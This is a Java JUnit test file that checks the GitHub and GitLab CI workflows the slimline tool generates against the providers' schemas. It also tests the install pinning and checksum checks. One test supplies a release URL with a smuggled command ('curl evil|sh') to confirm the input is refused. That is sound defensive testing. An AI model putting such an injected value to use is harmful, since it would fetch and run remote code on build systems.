package dev.slimline.ci;

import static dev.slimline.ci.WorkflowSteps.step;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLFactory;
import com.networknt.schema.AnnotationKeyword;
import com.networknt.schema.DisallowUnknownKeywordFactory;
import com.networknt.schema.InvalidSchemaException;
import com.networknt.schema.JsonMetaSchema;
import com.networknt.schema.JsonSchema;
import com.networknt.schema.JsonSchemaFactory;
import com.networknt.schema.SpecVersion;
import dev.slimline.io.Sha256;
import dev.slimline.project.DockerfileDiscovery;
import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * The workflows {@code slimline ci init} writes for the example monorepo parse as YAML and validate against the
 * providers' full published schemas (vendored unmodified, see ci-schemas/README.md), loaded as draft-07 with unknown
 * keywords refused so none is skipped silently; the validators are shown to be live by a broken copy that must fail.
 */
class CiWorkflowSchemaTest {

    private static final ObjectMapper YAML = new ObjectMapper(new YAMLFactory());
    private static final Path REPO = Path.of(System.getProperty("user.dir"));
    private static final Path EXAMPLE = REPO.resolve("examples/monorepo");

    static GatePlan examplePlan() {
        return plan(provided("slimline"));
    }

    private static GatePlan plan(SlimlineInstall install) {
        return WorkflowGenerator.plan(REPO, EXAMPLE, DockerfileDiscovery.discover(EXAMPLE), install);
    }

    private static SlimlineInstall provided(String command) {
        return new SlimlineInstall(InstallMethod.COMMAND, "", "", "", command, "");
    }

    private static final String SHA = "ab".repeat(32);
    private static final String URL = "https://releases.example.test/slimline/v0.3.1";

    /**
     * Draft-07 that refuses keywords it does not know. GitLab's {@code markdownDescription} (hover text for its
     * editor, no validation meaning) is the one keyword of either schema draft-07 lacks; it is declared an annotation.
     */
    private static final JsonSchemaFactory STRICT_DRAFT_07 = JsonSchemaFactory
            .builder(JsonSchemaFactory.getInstance(SpecVersion.VersionFlag.V7))
            .metaSchema(JsonMetaSchema.builder(JsonMetaSchema.getV7())
                    .unknownKeywordFactory(DisallowUnknownKeywordFactory.getInstance())
                    .keyword(new AnnotationKeyword("markdownDescription"))
                    .build())
            .build();

    /** Loads a vendored schema with every subschema's validators built now, so an unknown keyword fails here. */
    private static JsonSchema schema(String name) throws Exception {
        try (InputStream in = CiWorkflowSchemaTest.class.getResourceAsStream("/ci-schemas/" + name)) {
            JsonSchema schema = STRICT_DRAFT_07.getSchema(in);
            schema.initializeValidators();
            return schema;
        }
    }

    @Test
    void theStrictLoaderRefusesAKeywordItDoesNotKnow() {
        assertThatThrownBy(() -> STRICT_DRAFT_07.getSchema("""
                {"$schema": "http://json-schema.org/draft-07/schema#", "type": "object", "markdownDescriptionn": "typo"}
                """).initializeValidators())
                .isInstanceOf(InvalidSchemaException.class).hasMessageContaining("markdownDescriptionn");
    }

    @Test
    void githubWorkflowValidatesAndFiltersPathsPerService() throws Exception {
        JsonNode workflow = YAML.readTree(WorkflowGenerator.render(CiProvider.GITHUB, examplePlan()));
        JsonSchema schema = schema("github-workflow.json");
        assertThat(schema.validate(workflow)).isEmpty();

        assertThat(texts(workflow.path("on").path("pull_request").path("paths"))).contains(
                "examples/monorepo/services/api/**", "examples/monorepo/services/worker/**",
                "examples/monorepo/services/web-app/**", "examples/monorepo/.slimline.yaml");
        JsonNode filters = YAML.readTree(workflow.path("jobs").path("changes").path("steps").get(1)
                .path("with").path("filters").asText());
        assertThat(texts(filters.path("services/api"))).containsExactly("examples/monorepo/services/api/**",
                "examples/monorepo/.slimline.yaml", "examples/monorepo/.slimline-baseline.json");
        assertThat(filters.has("services/worker")).isTrue();
        assertThat(filters.has("services/web-app")).isTrue();

        JsonNode gate = workflow.path("jobs").path("gate");
        assertThat(gate.path("strategy").path("matrix").path("service").asText())
                .isEqualTo("${{ fromJSON(needs.changes.outputs.services) }}");
        List<String> uses = new ArrayList<>();
        String gateRun = null;
        for (JsonNode step : gate.path("steps")) {
            uses.add(step.path("uses").asText());
            if (step.path("name").asText().equals("slimline gate")) {
                gateRun = step.path("run").asText();
            }
        }
        assertThat(uses).contains("actions/setup-java@v4", "github/codeql-action/upload-sarif@v3",
                "actions/upload-artifact@v4", "docker/scout-action@v1");
        JsonNode java = step(gate, "Java 21 for slimline");
        assertThat(java.path("with").path("distribution").asText()).isEqualTo("temurin");
        assertThat(java.path("with").path("java-version").isTextual()).isTrue();
        assertThat(java.path("with").path("java-version").asText()).isEqualTo("21");
        assertThat(step(gate, "slimline on the runner").path("run").asText())
                .startsWith("slimline --version || { echo \"slimline is not available on this runner");
        assertThat(WorkflowSteps.names(gate)).containsSubsequence("Java 21 for slimline", "slimline on the runner",
                "Update the OSV database", "slimline gate");
        assertThat(gateRun).isEqualTo("slimline gate examples/monorepo --service \"${{ matrix.service }}\" --db"
                + " \"$SLIMLINE_DB\" --format github --report sarif=slimline-gate.sarif --report html=slimline-gate.html"
                + " --report junit=slimline-gate.junit.xml --report markdown=slimline-gate.md --report json=slimline-gate.json");

        ObjectNode broken = workflow.deepCopy();
        ((ObjectNode) broken.path("jobs").path("gate")).remove("runs-on");
        assertThat(schema.validate(broken)).isNotEmpty();
    }

    @Test
    void gitlabPipelineValidatesWithOneJobPerServiceRunningOnItsChanges() throws Exception {
        JsonNode pipeline = YAML.readTree(WorkflowGenerator.render(CiProvider.GITLAB, examplePlan()));
        JsonSchema schema = schema("gitlab-ci.json");
        assertThat(schema.validate(pipeline)).isEmpty();
        // the schema accepts anything under a hidden key, so check each job as GitLab runs it: template merged in
        ObjectNode effective = pipeline.deepCopy();
        effective.remove(".slimline-gate");
        for (String job : List.of("slimline-gate:services/api", "slimline-gate:services/worker",
                "slimline-gate:services/web-app")) {
            effective.set(job, extended(pipeline.path(".slimline-gate"), pipeline.path(job)));
        }
        assertThat(schema.validate(effective)).isEmpty();
        assertThat(effective.path("slimline-gate:services/api").path("services").get(0).asText())
                .isEqualTo("docker:24-dind");
        assertThat(texts(pipeline.path(".slimline-gate").path("before_script"))).hasSize(3)
                .satisfies(lines -> assertThat(lines.get(0)).startsWith("command -v docker >/dev/null ||"))
                .satisfies(lines -> assertThat(lines.get(1)).startsWith("slimline --version ||"))
                .satisfies(lines -> assertThat(lines.get(2)).isEqualTo("slimline db update --db \"$SLIMLINE_DB\""));

        JsonNode api = pipeline.path("slimline-gate:services/api");
        assertThat(api.path("extends").asText()).isEqualTo(".slimline-gate");
        JsonNode rule = api.path("rules").get(0);
        assertThat(rule.path("if").asText()).isEqualTo("$CI_PIPELINE_SOURCE == \"merge_request_event\"");
        assertThat(texts(rule.path("changes"))).containsExactly("examples/monorepo/services/api/**/*",
                "examples/monorepo/.slimline.yaml", "examples/monorepo/.slimline-baseline.json");
        assertThat(api.path("script").get(0).asText()).startsWith("slimline gate examples/monorepo --service \"services/api\"");
        assertThat(api.path("script").get(1).asText()).contains("docker scout cves --only-severity critical,high"
                + " --exit-code local://slimline-gate/services/api:candidate");
        assertThat(pipeline.has("slimline-gate:services/worker")).isTrue();
        assertThat(pipeline.has("slimline-gate:services/web-app")).isTrue();
        assertThat(pipeline.path(".slimline-gate").path("artifacts").path("reports").path("junit").asText())
                .isEqualTo("slimline-gate.junit.xml");

        ObjectNode broken = pipeline.deepCopy();
        ((ObjectNode) broken.path("slimline-gate:services/api")).put("scriptt", "typo");
        assertThat(schema.validate(broken)).isNotEmpty();
        ObjectNode brokenTemplate = effective.deepCopy();
        ((ObjectNode) brokenTemplate.path("slimline-gate:services/api").path("artifacts")).put("when", "sometimes");
        assertThat(schema.validate(brokenTemplate)).isNotEmpty();
    }

    @Test
    void aJarInTheRepositoryIsCalledThroughJavaEverywhereTheWorkflowRunsSlimline() throws Exception {
        GatePlan plan = plan(provided("java -jar tools/slimline.jar"));
        JsonNode workflow = YAML.readTree(WorkflowGenerator.render(CiProvider.GITHUB, plan));
        assertThat(schema("github-workflow.json").validate(workflow)).isEmpty();
        JsonNode gate = workflow.path("jobs").path("gate");
        String jar = "java -jar tools/slimline.jar";
        assertThat(step(gate, "slimline on the runner").path("run").asText()).startsWith(jar + " --version ||");
        assertThat(step(gate, "Update the OSV database").path("run").asText()).startsWith(jar + " db update");
        assertThat(step(gate, "slimline gate").path("run").asText()).startsWith(jar + " gate examples/monorepo");

        JsonNode pipeline = YAML.readTree(WorkflowGenerator.render(CiProvider.GITLAB, plan));
        assertThat(schema("gitlab-ci.json").validate(pipeline)).isEmpty();
        assertThat(texts(pipeline.path(".slimline-gate").path("before_script")).subList(1, 3))
                .allSatisfy(line -> assertThat(line).startsWith("java -jar tools/slimline.jar "));
        assertThat(pipeline.path("slimline-gate:services/worker").path("script").get(0).asText())
                .startsWith("java -jar tools/slimline.jar gate examples/monorepo --service \"services/worker\"");
    }

    @Test
    void aPinnedJarIsInstalledBeforeAnySlimlineStepWithTheBundledInstallersChecksum() throws Exception {
        String installerSha = Sha256.of(Files.newInputStream(REPO.resolve("scripts/install-slimline.sh")));
        GatePlan plan = plan(new SlimlineInstall(InstallMethod.JAR, "0.3.1", SHA, URL, "", ""));
        JsonNode workflow = YAML.readTree(WorkflowGenerator.render(CiProvider.GITHUB, plan));
        assertThat(schema("github-workflow.json").validate(workflow)).isEmpty();
        JsonNode gate = workflow.path("jobs").path("gate");
        assertThat(WorkflowSteps.names(gate)).containsSubsequence("Java 21 for slimline", "Install slimline",
                "Update the OSV database", "slimline gate").doesNotContain("slimline on the runner");
        JsonNode install = step(gate, "Install slimline");
        assertThat(install.path("env").path("SLIMLINE_INSTALL").asText()).isEqualTo("jar");
        assertThat(install.path("env").path("SLIMLINE_VERSION").asText()).isEqualTo("0.3.1");
        assertThat(install.path("env").path("SLIMLINE_SHA256").asText()).isEqualTo(SHA);
        assertThat(install.path("env").path("SLIMLINE_RELEASE_URL").asText()).isEqualTo(URL);
        assertThat(install.path("run").asText()).contains("echo \"" + installerSha + "  $RUNNER_TEMP/install-slimline.sh\""
                + " | sha256sum -c -", "echo \"SLIMLINE=$SLIMLINE\" >> \"$GITHUB_ENV\"");
        assertThat(step(gate, "slimline gate").path("run").asText()).startsWith("\"$SLIMLINE\" gate examples/monorepo");
        assertThat(workflow.toString()).doesNotContain("slimline --version");

        JsonNode pipeline = YAML.readTree(WorkflowGenerator.render(CiProvider.GITLAB, plan));
        assertThat(schema("gitlab-ci.json").validate(pipeline)).isEmpty();
        assertThat(pipeline.path("variables").path("SLIMLINE_SHA256").asText()).isEqualTo(SHA);
        assertThat(pipeline.path("variables").path("SLIMLINE_CI_IMAGE").path("value").asText())
                .isEqualTo("eclipse-temurin:21-jdk");
        List<String> before = texts(pipeline.path(".slimline-gate").path("before_script"));
        assertThat(before.get(1)).contains(installerSha + "  /tmp/install-slimline.sh");
        assertThat(before.get(2)).isEqualTo("\"$SLIMLINE\" db update --db \"$SLIMLINE_DB\"");
    }

    @Test
    void thePinnedImageNeedsNoJavaAndGitlabRunsItFromADockerCliJobImage() throws Exception {
        GatePlan plan = plan(new SlimlineInstall(InstallMethod.IMAGE, "0.3.1", SHA, URL, "", ""));
        JsonNode workflow = YAML.readTree(WorkflowGenerator.render(CiProvider.GITHUB, plan));
        assertThat(schema("github-workflow.json").validate(workflow)).isEmpty();
        JsonNode gate = workflow.path("jobs").path("gate");
        assertThat(WorkflowSteps.names(gate)).doesNotContain("Java 21 for slimline").contains("Install slimline");
        assertThat(step(gate, "Install slimline").path("env").path("SLIMLINE_INSTALL").asText()).isEqualTo("image");
        JsonNode pipeline = YAML.readTree(WorkflowGenerator.render(CiProvider.GITLAB, plan));
        assertThat(schema("gitlab-ci.json").validate(pipeline)).isEmpty();
        assertThat(pipeline.path("variables").path("SLIMLINE_CI_IMAGE").path("value").asText()).isEqualTo("docker:24-cli");
        assertThat(pipeline.path("variables").path("SLIMLINE_INSTALL").asText()).isEqualTo("image");
    }

    @Test
    void theActionRunsEverySlimlineStepPinnedToTheRelease() throws Exception {
        GatePlan plan = plan(new SlimlineInstall(InstallMethod.ACTION, "0.3.1", SHA, "", "", "acme/slimline"));
        JsonNode workflow = YAML.readTree(WorkflowGenerator.render(CiProvider.GITHUB, plan));
        assertThat(schema("github-workflow.json").validate(workflow)).isEmpty();
        JsonNode gate = workflow.path("jobs").path("gate");
        assertThat(WorkflowSteps.names(gate)).doesNotContain("Java 21 for slimline", "Install slimline");
        for (String name : List.of("Update the OSV database", "slimline gate")) {
            JsonNode step = step(gate, name);
            assertThat(step.path("uses").asText()).isEqualTo("acme/slimline@v0.3.1");
            assertThat(step.path("with").path("sha256").asText()).isEqualTo(SHA);
            assertThat(step.has("run")).isFalse();
        }
        assertThat(step(gate, "slimline gate").path("with").path("args").asText()).isEqualTo("examples/monorepo"
                + " --service ${{ matrix.service }} --db ${{ env.SLIMLINE_DB }} --format github --report"
                + " sarif=slimline-gate.sarif --report html=slimline-gate.html --report junit=slimline-gate.junit.xml"
                + " --report markdown=slimline-gate.md --report json=slimline-gate.json");
        assertThat(step(gate, "slimline gate").path("id").asText()).isEqualTo("gate");
    }

    @Test
    void anIncompletePinIsRefusedWithTheOptionToFix() {
        assertThatThrownBy(() -> new SlimlineInstall(InstallMethod.JAR, "0.3.1", "", URL, "", ""))
                .hasMessageContaining("--sha256 must be 64 lower-case hex digits");
        assertThatThrownBy(() -> new SlimlineInstall(InstallMethod.IMAGE, "0.3.1", SHA, "", "", ""))
                .hasMessageContaining("--release-url must be the http(s) address");
        assertThatThrownBy(() -> new SlimlineInstall(InstallMethod.JAR, "0.3.1", SHA, URL + "\"; curl evil|sh", "", ""))
                .hasMessageContaining("--release-url");
        assertThatThrownBy(() -> new SlimlineInstall(InstallMethod.JAR, "", SHA, URL, "", ""))
                .hasMessageContaining("--slimline-version must name a release");
        assertThatThrownBy(() -> new SlimlineInstall(InstallMethod.ACTION, "0.3.1", SHA, "", "", "acme"))
                .hasMessageContaining("--action OWNER/NAME");
    }

    @Test
    void theGitlabTemplateToIncludeValidatesAsAJobThatExtendsIt() throws Exception {
        JsonNode template = YAML.readTree(REPO.resolve("ci/slimline.gitlab-ci.yml").toFile());
        ObjectNode pipeline = template.deepCopy();
        ObjectNode job = YAML.createObjectNode().put("extends", ".slimline");
        job.putObject("variables").put("SLIMLINE_VERSION", "0.1.0").put("SLIMLINE_SHA256", "0".repeat(64))
                .put("SLIMLINE_COMMAND", "audit").put("SLIMLINE_OUTPUT", "audit.json");
        pipeline.set("slimline-audit", extended(template.path(".slimline"), job));
        JsonSchema schema = schema("gitlab-ci.json");
        assertThat(schema.validate(pipeline)).isEmpty();
        JsonNode effective = pipeline.path("slimline-audit");
        assertThat(texts(effective.path("before_script")).get(1)).contains("install-slimline.sh");
        assertThat(effective.path("variables").path("SLIMLINE_INSTALL").asText()).isEqualTo("image");
        assertThat(texts(effective.path("artifacts").path("paths"))).containsExactly("$SLIMLINE_OUTPUT");

        ((ObjectNode) pipeline.path("slimline-audit").path("artifacts")).put("when", "sometimes");
        assertThat(schema.validate(pipeline)).isNotEmpty();
    }

    /** GitLab's {@code extends}: the job's keys over the template's, hashes merged deeply, other values replaced. */
    private static ObjectNode extended(JsonNode template, JsonNode job) {
        ObjectNode merged = template.deepCopy();
        for (Iterator<Map.Entry<String, JsonNode>> it = job.fields(); it.hasNext(); ) {
            Map.Entry<String, JsonNode> entry = it.next();
            if (entry.getKey().equals("extends")) {
                continue;
            }
            JsonNode base = merged.get(entry.getKey());
            merged.set(entry.getKey(), base != null && base.isObject() && entry.getValue().isObject()
                    ? extended(base, entry.getValue()) : entry.getValue().deepCopy());
        }
        return merged;
    }

    private static List<String> texts(JsonNode array) {
        List<String> out = new ArrayList<>();
        array.forEach(n -> out.add(n.asText()));
        return out;
    }
}
